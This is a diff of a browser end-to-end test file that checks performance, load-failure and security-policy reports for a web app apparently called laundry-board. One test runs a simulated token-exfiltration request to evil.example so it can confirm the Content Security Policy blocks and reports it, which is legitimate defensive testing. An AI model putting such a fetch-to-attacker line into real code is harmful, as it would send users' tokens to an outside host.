@@ -1,11 +1,6 @@
-import { rm, writeFile } from 'node:fs/promises';
+import { rm } from 'node:fs/promises';
 import path from 'node:path';
-import {
-  CONTRACT_VERSIONS,
-  REMOTE_ENTRY_FILE,
-  REMOTES,
-  type RuntimeConfig,
-} from '@laundry-board/shared-types';
+import { REMOTE_ENTRY_FILE, type RuntimeConfig } from '@laundry-board/shared-types';
 import { serveReportedShell } from '../../support/reportedSite.ts';
 import { sampleSchool } from '../../support/schools.ts';
 import { expect, signInByPopup, test as base } from '../../support/webkit/fixtures.ts';
@@ -43,14 +38,14 @@ const test = base.extend<{ reported: Reported }>({
   },
 });
 
-test('a visitor’s page reports when the login screen was there', async ({ reported }) => {
-  await reported.open();
-  await reported.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
-});
-
-test('a healthy visit reports its first tile', async ({ reported, schools, webkit }) => {
+test('a visit reports when the login screen and its first tile were there', async ({
+  reported,
+  schools,
+  webkit,
+}) => {
   await schools.write('campus.example', sampleSchool());
   await reported.open();
+  await reported.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
   await signInByPopup(webkit, 'ada@campus.example');
   await expect
     .poll(() => webkit.names('listitem'))
@@ -58,43 +53,18 @@ test('a healthy visit reports its first tile', async ({ reported, schools, webki
   await reported.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
 });
 
-test('a dead board is reported', async ({ expectedErrors, folderOf, reported }) => {
-  expectedErrors.push(/could not be loaded|Failed to load/);
-  await rm(path.join(folderOf('board-remote'), REMOTE_ENTRY_FILE));
-  await reported.open();
-  await reported.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
-});
-
-test('a pin whose entry is refused is reported', async ({ expectedErrors, reported }) => {
-  expectedErrors.push(/could not be loaded|Failed to load|integrity/i);
-  const pin = { entry: REMOTE_ENTRY_FILE, integrity: `sha384-${'A'.repeat(64)}` };
-  await reported.open({ pins: { board: pin } });
-  await reported.expectReport({ type: 'error', remote: 'board', failure: 'damaged' });
-});
-
-test('a remote that throws while it renders is reported', async ({
+test('a board that is refused for its hash is reported, and one that is gone', async ({
   expectedErrors,
   folderOf,
   reported,
 }) => {
-  expectedErrors.push(/could not be loaded|Maple House of Ada/);
-  const { container } = REMOTES.auth;
-  await writeFile(
-    path.join(folderOf('auth-remote'), REMOTE_ENTRY_FILE),
-    `const state = { phase: 'signed-out', canSignIn: false };
-    const session = { subscribe: () => () => {}, getSnapshot: () => state };
-    const LoginScreen = () => { throw new TypeError('Maple House of Ada Lovelace'); };
-    const module = { LoginScreen, openUserSession: () => Promise.resolve(session) };
-    window.${container}_built_against = { contract: ${CONTRACT_VERSIONS.auth}, shared: {} };
-    window.${container} = { init() {}, get: () => Promise.resolve(() => module) };`,
-  );
+  expectedErrors.push(/could not be loaded|Failed to load|integrity/i);
+  const pin = { entry: REMOTE_ENTRY_FILE, integrity: `sha384-${'A'.repeat(64)}` };
+  await reported.open({ pins: { board: pin } });
+  await reported.expectReport({ type: 'error', remote: 'board', failure: 'damaged' });
+  await rm(path.join(folderOf('board-remote'), REMOTE_ENTRY_FILE));
   await reported.open();
-  await reported.expectReport({
-    type: 'error',
-    remote: 'auth',
-    phase: 'rendering',
-    failure: 'threw',
-  });
+  await reported.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
 });
 
 test('a violation of the policy is reported, by the page and by the browser itself', async ({
@@ -106,6 +76,7 @@ test('a violation of the policy is reported, by the page and by the browser itse
     /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
   );
   await reported.open();
+  // By then it listens for violations.
   await reported.expectReport({ type: 'measure', name: 'login-screen' });
   await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
   const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
